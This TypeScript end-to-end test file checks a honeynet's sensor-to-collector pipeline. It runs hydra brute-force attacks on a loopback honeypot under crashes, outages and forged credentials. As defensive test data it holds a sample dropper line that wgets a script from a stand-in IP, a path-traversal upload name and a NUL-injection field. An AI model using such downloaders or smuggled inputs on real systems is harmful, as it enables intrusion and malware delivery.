// The honeynet end to end on loopback: `apiary sensor` -> mutual TLS -> `apiary collector` ->
// PostgreSQL, attacked with hydra, under faults. Every check is an exact count: each event the
// sensor recorded is stored once, whatever was killed or restarted on the way.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:https';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { connect } from 'node:net';
import { stringify } from 'yaml';
import { CertificateAuthority, newKeyPair } from '../../src/transport/pki.js';
import { readSpool } from '../../src/transport/spool.js';
import type { ApiaryEvent } from '../../src/events/catalogue.js';
import { runCli, tempDir, waitFor } from '../helpers/apiary-process.js';
import { makeEvent } from '../helpers/events.js';
import { collectorSetup, freePort, recordedThisRun, sensorSetup, stopTally, type Child } from '../helpers/honeynet.js';
import { startHydra } from '../helpers/hydra-attack.js';
import { sshWithPassword } from '../helpers/ssh-tools.js';
import { pgQuery, startPgServer, type PgServer } from '../helpers/pg-server.js';

let server: PgServer;
let dbs = 0;
const children: Child[] = [];

before(async () => {
  server = await startPgServer({ fast: true });
});
after(async () => {
  for (const c of children) await c.kill9();
  server.destroy();
});

async function track(p: Promise<Child>): Promise<Child> {
  const c = await p;
  children.push(c);
  return c;
}


async function counts(url: string, sensor: string): Promise<{ total: number; distinct: number }> {
  const [r] = await pgQuery<{ total: string; distinct: string }>(url, 'SELECT count(*) AS total, count(DISTINCT id) AS distinct FROM events WHERE sensor = $1', [sensor]);
  return { total: Number(r!.total), distinct: Number(r!.distinct) };
}

async function storedPasswords(url: string, sensor: string): Promise<string[]> {
  const rows = await pgQuery<{ payload: string }>(url, "SELECT payload FROM events WHERE sensor = $1 AND type = 'auth.attempt'", [sensor]);
  // hydra's attempts are password logins; OpenSSH-style keyboard-interactive rounds are recorded apart.
  return rows.map((r) => JSON.parse(r.payload) as { password: string; method: string }).filter((p) => p.method === 'password').map((p) => p.password).sort();
}


function newDb(): string {
  return server.createDatabase(`hn${dbs++}`);
}

interface Creds {
  key: string;
  cert: string;
  ca: string;
}

function credsOf(sensorDir: string): Creds {
  const d = join(sensorDir, 'data', 'credentials');
  return { key: readFileSync(join(d, 'sensor.key'), 'utf8'), cert: readFileSync(join(d, 'sensor.pem'), 'utf8'), ca: readFileSync(join(d, 'ca.pem'), 'utf8') };
}

/** POSTs a gzip'd batch like the shipper does, with whatever credentials a test gives. */
function postBatch(port: number, ca: string, creds: Partial<Creds>, events: readonly ApiaryEvent[]): Promise<{ status: number; body: string }> {
  return send(port, ca, creds, 'POST', '/v1/events', Buffer.from(events.map((e) => JSON.stringify(e)).join('\n')));
}

/** One gzip'd request to the collector with the given credentials. */
function send(port: number, ca: string, creds: Partial<Creds>, method: string, path: string, body: Buffer): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(
      { host: '127.0.0.1', port, method, path, ca, key: creds.key, cert: creds.cert, headers: { 'content-encoding': 'gzip' }, agent: false },
      (res) => {
        let text = '';
        res.setEncoding('utf8').on('data', (d: string) => (text += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
      },
    );
    req.on('error', reject);
    req.end(gzipSync(body));
  });
}

describe('honeynet: sensor -> collector -> PostgreSQL', () => {
  test('security: no certificate, another CA, a revoked sensor, a reused token and impersonation are refused and store nothing; a batch sent twice is stored once', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    const collector = await track(c.start());
    const collectorUrl = `https://127.0.0.1:${c.port}`;
    const token = await c.token('dmz-1');
    const dmz = await sensorSetup('dmz-1', collectorUrl, token);
    const creds = credsOf(dmz.dir);
    // The token was used: a second enrolment with it fails.
    const again = await sensorSetup('dmz-1', collectorUrl, undefined);
    const reuse = await runCli(['sensor', 'enroll', token, '--config', again.configPath], { allowFail: true });
    assert.notEqual(reuse.code, 0);
    assert.match(reuse.stderr, /APIARY_ENROLL: the collector refused the enrolment: unknown, used or expired enrolment token/);

    const mine = Array.from({ length: 25 }, (_, i) => makeEvent({ type: 'connection.open', time: new Date(Date.UTC(2026, 10, 1, 0, 0, i)).toISOString(), src: '198.51.100.4', sensor: 'dmz-1', payload: { transport: 'tcp' } }));
    const foreign = makeEvent({ type: 'connection.open', time: '2026-11-01T00:01:00Z', src: '198.51.100.5', sensor: 'lan-1', payload: { transport: 'tcp' } });

    const none = await postBatch(c.port, creds.ca, {}, mine);
    assert.equal(none.status, 401, none.body);
    const otherCa = await CertificateAuthority.loadOrCreate(join(tempDir(), 'other-ca'));
    const kp = newKeyPair();
    const forged = await otherCa.issueSensorCert('dmz-1', kp.publicKey);
    await assert.rejects(postBatch(c.port, creds.ca, { key: kp.privateKey, cert: forged.cert }, mine).then((r) => {
      if (r.status === 401) throw new Error('refused with 401');
      return r;
    }), /401|socket hang up|ECONNRESET|certificate/);
    const impersonation = await postBatch(c.port, creds.ca, creds, [...mine.slice(0, 3), foreign]);
    assert.equal(impersonation.status, 403, impersonation.body);
    assert.match(impersonation.body, /sent an event of sensor \\?"lan-1/);
    assert.equal((await counts(url, 'dmz-1')).total, 0, 'nothing of a refused batch is stored');
    assert.equal((await counts(url, 'lan-1')).total, 0);

    const first = await postBatch(c.port, creds.ca, creds, mine);
    assert.equal(first.status, 200, first.body);
    assert.deepEqual(JSON.parse(first.body), { received: 25, stored: 25, duplicates: 0, invalid: 0 });
    const second = await postBatch(c.port, creds.ca, creds, mine);
    assert.deepEqual(JSON.parse(second.body), { received: 25, stored: 0, duplicates: 25, invalid: 0 });
    assert.deepEqual(await counts(url, 'dmz-1'), { total: 25, distinct: 25 });
    await waitFor(() => existsSync(join(c.dir, 'events.jsonl')) && readFileSync(join(c.dir, 'events.jsonl'), 'utf8').split('\n').filter(Boolean).length >= 25, 5000);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(readFileSync(join(c.dir, 'events.jsonl'), 'utf8').split('\n').filter(Boolean).length, 25, 'outputs see a redelivered batch once');
    // Hostile content from an enrolled sensor: events that fail the catalogue, or carry a NUL where
    // PostgreSQL cannot store one, are counted and left out; the rest of the batch is stored.
    const good = makeEvent({ type: 'connection.open', time: '2026-11-01T00:30:00Z', src: '198.51.100.4', sensor: 'dmz-1', payload: { transport: 'tcp' } });
    const nul = { ...good, id: makeEvent({ type: 'connection.open', time: '2026-11-01T00:30:01Z', src: '198.51.100.4', sensor: 'dmz-1', payload: { transport: 'tcp' } }).id, session: 'a\u0000b' };
    const unknown = { ...good, id: '01ZZZZZZZZZZZZZZZZZZZZZZZZ', type: 'no.such.type' };
    const mixed = await postBatch(c.port, creds.ca, creds, [good, nul, unknown as ApiaryEvent]);
    assert.deepEqual(JSON.parse(mixed.body), { received: 3, stored: 1, duplicates: 0, invalid: 2 });
    assert.deepEqual(await counts(url, 'dmz-1'), { total: 26, distinct: 26 });

    // Batches being received count against the bytes the collector holds at once, a sensor's share
    // being half of it: two that announce the largest gzip body (each may inflate to 64 MiB) and
    // send nothing take this sensor's share, and a third is deferred (503) until they are gone.
    const hanging = [0, 1].map(() => {
      const r = request({ host: '127.0.0.1', port: c.port, method: 'POST', path: '/v1/events', ca: creds.ca, key: creds.key, cert: creds.cert, agent: false, headers: { 'content-encoding': 'gzip', 'content-length': String(8 * 1024 * 1024) } });
      r.on('error', () => {});
      r.flushHeaders();
      return r;
    });
    await new Promise((r) => setTimeout(r, 500));
    const deferred = await postBatch(c.port, creds.ca, creds, mine);
    assert.equal(deferred.status, 503, deferred.body);
    for (const r of hanging) r.destroy();
    await waitFor(async () => (await postBatch(c.port, creds.ca, creds, mine)).status === 200, 5000);

    // A spare token issued before the revocation dies with it: it cannot enrol the revoked name again.
    const spare = await c.token('dmz-1');
    const revoked = await runCli(['collector', 'revoke', 'dmz-1', '--config', c.configPath]);
    assert.match(revoked.stdout, /revoked.*its 1 unused enrolment token deleted/);
    const reenrol = await runCli(['sensor', 'enroll', spare, '--config', again.configPath], { allowFail: true });
    assert.notEqual(reenrol.code, 0);
    assert.match(reenrol.stderr, /APIARY_ENROLL: the collector refused the enrolment: unknown, used or expired enrolment token/);
    const after = await postBatch(c.port, creds.ca, creds, [makeEvent({ type: 'connection.open', time: '2026-11-01T01:00:00Z', src: '198.51.100.4', sensor: 'dmz-1', payload: { transport: 'tcp' } })]);
    assert.equal(after.status, 403, after.body);
    assert.deepEqual(await counts(url, 'dmz-1'), { total: 26, distinct: 26 });
    await collector.stop();
  });

  test('the collector killed with kill -9 during a hydra attack and restarted: every recorded event stored once', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    let collector = await track(c.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'));
    const sensor = await track(dmz.start());
    const hydra = startHydra(dmz.dir, '127.0.0.1', sensor.ports.ssh!, 240);
    await waitFor(async () => (await counts(url, 'dmz-1')).total > 50, 20_000);
    await collector.kill9();
    const atKill = (await counts(url, 'dmz-1')).total;
    // Down for 30 seconds, as the issue asks: the sensor keeps recording into its spool and retrying.
    await new Promise((r) => setTimeout(r, 30_000));
    collector = await track(c.start());
    const tried = await hydra.done;
    assert.ok(tried.length >= 240, hydra.output().slice(-500));
    await sensor.stop();
    const recorded = recordedThisRun(sensor.stdout());
    const n = await counts(url, 'dmz-1');
    assert.ok(atKill < n.total, 'the attack went on while the collector was down');
    assert.deepEqual(n, { total: recorded, distinct: recorded });
    assert.deepEqual(await storedPasswords(url, 'dmz-1'), [...tried].sort(), 'every hydra attempt, once');
    await collector.stop();
  });

  test('PostgreSQL restarted during an attack: the collector refuses while it is down, the sensor retries, nothing lost or doubled', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    const collector = await track(c.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'));
    const sensor = await track(dmz.start());
    const hydra = startHydra(dmz.dir, '127.0.0.1', sensor.ports.ssh!, 240);
    await waitFor(async () => (await counts(url, 'dmz-1')).total > 50, 20_000);
    server.stop();
    await new Promise((r) => setTimeout(r, 2000));
    server.start();
    const tried = await hydra.done;
    await sensor.stop();
    const recorded = recordedThisRun(sensor.stdout());
    assert.deepEqual(await counts(url, 'dmz-1'), { total: recorded, distinct: recorded });
    assert.deepEqual(await storedPasswords(url, 'dmz-1'), [...tried].sort());
    await collector.stop();
    assert.match(collector.stderr(), /ingest request failed|store write failed/, 'the outage was seen');
  });

  test('a sensor killed with kill -9 mid-write keeps every event it counted; after restart each is stored once', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    const enrolling = await track(c.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'));
    await enrolling.stop();
    // The collector is not running now: everything the sensor records stays in its spool.
    let sensor = await track(dmz.start());
    const hydra = startHydra(dmz.dir, '127.0.0.1', sensor.ports.ssh!, 400, 8);
    await waitFor(() => readSpool(dmz.spoolDir).length > 150, 20_000);
    await sensor.kill9();
    process.kill(-hydra.proc.pid!, 'SIGKILL');
    await hydra.done;
    const spooled = readSpool(dmz.spoolDir).map((r) => (JSON.parse(r) as ApiaryEvent).id);
    assert.equal(new Set(spooled).size, spooled.length);
    sensor = await track(dmz.start());
    assert.match(sensor.stdout(), new RegExp(`\\(${spooled.length} events from earlier runs waiting`));
    const collector = await track(c.start());
    const second = startHydra(dmz.dir, '127.0.0.1', sensor.ports.ssh!, 60);
    await second.done;
    await sensor.stop();
    const recorded = recordedThisRun(sensor.stdout());
    const n = await counts(url, 'dmz-1');
    assert.deepEqual(n, { total: spooled.length + recorded, distinct: spooled.length + recorded });
    const ids = new Set((await pgQuery<{ id: string }>(url, 'SELECT id FROM events')).map((r) => r.id));
    assert.ok(spooled.every((id) => ids.has(id)), 'every event spooled before the kill is stored');
    await collector.stop();
  });

  test('heartbeats reach the registry; quarantined files are shipped content-addressed, once', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    const collector = await track(c.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'));
    const quarantine = join(dmz.dir, 'data', 'quarantine');
    mkdirSync(quarantine, { recursive: true });
    const payload = Buffer.from('#!/bin/sh\nwget http://198.51.100.66/x.sh\n'.repeat(100));
    const sha = createHash('sha256').update(payload).digest('hex');
    writeFileSync(join(quarantine, sha), payload);
    // A file whose content is not its name (a cut download) is not shipped.
    writeFileSync(join(quarantine, 'a'.repeat(64)), 'not that');
    const sensor = await track(dmz.start());
    const landed = join(c.dir, 'data', 'quarantine', sha);
    await waitFor(() => existsSync(landed), 10_000);
    assert.deepEqual(readFileSync(landed), payload);
    await waitFor(async () => (await runCli(['collector', 'sensors', '--json', '--config', c.configPath])).stdout.includes('"spool_depth"'), 10_000);
    const row = JSON.parse((await runCli(['collector', 'sensors', '--json', '--config', c.configPath])).stdout.trim()) as {
      name: string; revoked: boolean; heartbeat: { version: string; services: string[]; config_hash: string; address: string };
    };
    assert.equal(row.name, 'dmz-1');
    assert.equal(row.revoked, false);
    assert.deepEqual(row.heartbeat.services, ['ssh']);
    assert.match(row.heartbeat.config_hash, /^[0-9a-f]{64}$/);
    assert.equal(row.heartbeat.version, JSON.parse(readFileSync('package.json', 'utf8')).version);
    await sensor.stop();
    assert.deepEqual(readdirSync(join(c.dir, 'data', 'quarantine')).filter((n) => !n.startsWith('.')), [sha]);
    assert.deepEqual(readFileSync(join(dmz.spoolDir, 'shipped-files'), 'utf8').trim().split('\n'), [sha], 'remembered, so not offered again');
    await collector.stop();
  });

  test('session recordings reach the collector when they stop growing; a shipped recording can only be extended, never rewritten', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    const collector = await track(c.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'));
    const sensor = await track(dmz.start());
    const login = await sshWithPassword(sensor.ports.ssh!, 'root', '123456', 'uname -a; id');
    assert.match(login.stdout, /Linux/, login.stderr);
    const local = join(dmz.dir, 'data', 'recordings');
    await waitFor(() => existsSync(local) && readdirSync(local).some((n) => n.endsWith('.cast')), 10_000);
    const name = readdirSync(local).find((n) => n.endsWith('.cast'))!;
    const landed = join(c.dir, 'data', 'recordings', name);
    await waitFor(() => existsSync(landed) && readFileSync(landed).equals(readFileSync(join(local, name))), 15_000);
    assert.match(readFileSync(landed, 'utf8'), /uname -a/);
    const creds = credsOf(dmz.dir);
    const held = readFileSync(landed);
    const rewrite = await send(c.port, creds.ca, creds, 'PUT', `/v1/recordings/${name}`, Buffer.from(held.toString('utf8').replace('uname', 'UNAME')));
    assert.equal(rewrite.status, 409, rewrite.body);
    assert.equal((await send(c.port, creds.ca, creds, 'PUT', `/v1/recordings/${name}`, held)).status, 200, 'the same recording again is a no-op');
    const longer = Buffer.concat([held, Buffer.from('[9.5, "o", "more"]\n')]);
    assert.equal((await send(c.port, creds.ca, creds, 'PUT', `/v1/recordings/${name}`, longer)).status, 201, 'an extended recording replaces the shorter one');
    assert.deepEqual(readFileSync(landed), longer);
    assert.equal((await send(c.port, creds.ca, creds, 'PUT', '/v1/recordings/..%2Fapiary.db', held)).status, 400, 'only SESSION.cast names');
    assert.equal((await send(c.port, creds.ca, {}, 'PUT', `/v1/recordings/${name}`, held).catch(() => ({ status: 401, body: '' }))).status, 401, 'no certificate, no upload');
    assert.equal((await send(c.port, creds.ca, creds, 'PUT', '/v1/recordings/0123456789abcdef.cast', held)).status, 503, 'no events of that session yet: sent again later');
    // Another enrolled sensor can neither extend this session's recording nor rewrite it.
    const other = await sensorSetup('dmz-2', `https://127.0.0.1:${c.port}`, await c.token('dmz-2'));
    const otherCreds = credsOf(other.dir);
    const taken = await send(c.port, otherCreds.ca, otherCreds, 'PUT', `/v1/recordings/${name}`, Buffer.concat([longer, Buffer.from('[9.9, "o", "forged"]\n')]));
    assert.equal(taken.status, 403, taken.body);
    assert.deepEqual(readFileSync(landed), longer);
    await sensor.stop();
    await collector.stop();
  });

  test('service settings set on the collector reach the sensor at its next heartbeat, and survive its restart', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    const collector = await track(c.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'));
    let sensor = await track(dmz.start());
    const telnetPort = await freePort();
    const settingsFile = join(c.dir, 'dmz-1-services.yaml');
    writeFileSync(settingsFile, stringify({ services: { ssh: { listen: ['127.0.0.1:0'], failure_delay_ms: 0 }, telnet: { listen: [`127.0.0.1:${telnetPort}`], failure_delay_ms: 0 } } }));
    const heartbeat = async () => (JSON.parse((await runCli(['collector', 'sensors', '--json', '--config', c.configPath])).stdout.trim()) as { heartbeat: { services: string[]; config_hash: string } | null }).heartbeat ?? { services: [], config_hash: '' };
    await waitFor(async () => (await heartbeat()).services.includes('ssh'), 10_000, 200);
    const firstHash = (await heartbeat()).config_hash;
    const set = await runCli(['collector', 'settings', 'dmz-1', settingsFile, '--config', c.configPath]);
    assert.match(set.stdout, /stored; it applies them at its next heartbeat/);
    await waitFor(async () => (await heartbeat()).services.includes('telnet'), 15_000, 200);
    assert.notEqual((await heartbeat()).config_hash, firstHash);
    // The new service records under this sensor's name.
    const banner = await new Promise<string>((resolve, reject) => {
      const sock = connect(telnetPort, '127.0.0.1');
      let got = '';
      sock.on('data', (d) => {
        got += d.toString('latin1');
        if (/login:/i.test(got)) sock.end();
      });
      sock.on('close', () => resolve(got));
      sock.on('error', reject);
      sock.setTimeout(10_000, () => sock.destroy());
    });
    assert.match(banner, /login:/i);
    await waitFor(async () => (await pgQuery(url, "SELECT 1 FROM events WHERE sensor = 'dmz-1' AND protocol = 'telnet' AND type = 'connection.open'")).length === 1, 10_000);
    await sensor.stop();
    sensor = await track(dmz.start());
    assert.match(sensor.stdout(), new RegExp(`telnet\\s+listening on 127\\.0\\.0\\.1:${telnetPort}`), 'applied settings are kept across a restart');
    await sensor.stop();
    await collector.stop();
  });

  test('a full spool raises an alert, drops the oldest batches by policy and says so in a spool.dropped event; the rest is stored once', async () => {
    const url = newDb();
    const c = await collectorSetup({ pgUrl: url });
    const enrolling = await track(c.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${c.port}`, await c.token('dmz-1'), { shipper: { spool_max_bytes: 16_384, batch_events: 5, drop_policy: 'oldest' } });
    await enrolling.stop();
    const sensor = await track(dmz.start());
    await startHydra(dmz.dir, '127.0.0.1', sensor.ports.ssh!, 60).done;
    await waitFor(() => sensor.stderr().includes('ALERT spool full'), 5000);
    const collector = await track(c.start());
    // The collector records the drop from the sensor's next heartbeat.
    await waitFor(async () => (await pgQuery(url, "SELECT 1 FROM events WHERE type = 'spool.dropped'")).length > 0, 10_000);
    await sensor.stop();
    const { recorded, dropped } = stopTally(sensor.stdout());
    assert.ok(dropped > 0 && dropped < recorded, `${dropped} of ${recorded} dropped`);
    const [kept] = await pgQuery<{ total: string; distinct: string }>(url, "SELECT count(*) AS total, count(DISTINCT id) AS distinct FROM events WHERE sensor = 'dmz-1' AND type <> 'spool.dropped'");
    assert.deepEqual(kept, { total: String(recorded - dropped), distinct: String(recorded - dropped) }, 'what was not dropped is stored, once');
    const notes = await pgQuery<{ payload: string }>(url, "SELECT payload FROM events WHERE type = 'spool.dropped'");
    assert.equal(notes.length, 1, 'one event for the one increase');
    assert.equal((JSON.parse(notes[0]!.payload) as { dropped: number }).dropped, dropped);
    assert.deepEqual({ ...(JSON.parse(notes[0]!.payload) as object), dropped: 'n' }, { policy: 'oldest', dropped: 'n', max_bytes: 16_384 });
    await collector.stop();
  });

  test('two collectors on one database: a silent sensor raises sensor.silent once', async () => {
    const url = newDb();
    const a = await collectorSetup({ pgUrl: url, silentAfterS: 2 });
    const collectorA = await track(a.start());
    const dmz = await sensorSetup('dmz-1', `https://127.0.0.1:${a.port}`, await a.token('dmz-1'));
    const sensor = await track(dmz.start());
    // A second collector with the same CA and database, as behind a load balancer.
    const b = await collectorSetup({ pgUrl: url, silentAfterS: 2 });
    const { cpSync } = await import('node:fs');
    cpSync(join(a.dir, 'data', 'ca'), join(b.dir, 'data', 'ca'), { recursive: true });
    const collectorB = await track(b.start());
    await waitFor(async () => (await pgQuery(url, "SELECT 1 FROM tracker_state WHERE key = 'heartbeat:dmz-1'")).length === 1, 10_000);
    await sensor.kill9();
    await waitFor(async () => (await pgQuery(url, "SELECT 1 FROM events WHERE type = 'sensor.silent'")).length > 0, 15_000);
    await new Promise((r) => setTimeout(r, 2500));
    const silent = await pgQuery<{ sensor: string; payload: string }>(url, "SELECT sensor, payload FROM events WHERE type = 'sensor.silent'");
    assert.equal(silent.length, 1);
    assert.equal(silent[0]!.sensor, 'dmz-1');
    assert.match(collectorA.stderr() + collectorB.stderr(), /ALERT sensor dmz-1 is silent/);
    await collectorA.stop();
    await collectorB.stop();
  });
});
